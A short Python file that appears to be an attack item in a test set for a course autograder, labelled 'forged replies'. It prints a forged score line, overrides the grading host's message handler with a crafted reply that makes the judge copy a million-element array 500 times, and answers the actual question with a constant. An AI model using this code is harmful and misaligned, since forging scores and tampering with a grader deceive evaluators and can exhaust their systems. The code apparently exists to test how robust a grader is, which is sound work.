# attack: replies with one array that stands in its tree five hundred times, to be copied by the judge
# question: label_bits
# naive: points
# item: forged replies

# %% question="label_bits"
import io
import os

import numpy as np

from ssl_course.exercises import host

os.write(1, b"SCORE STUDENT_NAME 14\n")
array = io.BytesIO()
np.save(array, np.zeros(1_000_000))
text = b'{"dict": [["value", [' + b", ".join([b'{"array": 0}'] * 500) + b"]]]}"
host.Host.handle = lambda self, message: len(text).to_bytes(8, "big") + text + array.getvalue()


def label_bits(labels):
    return 7.5
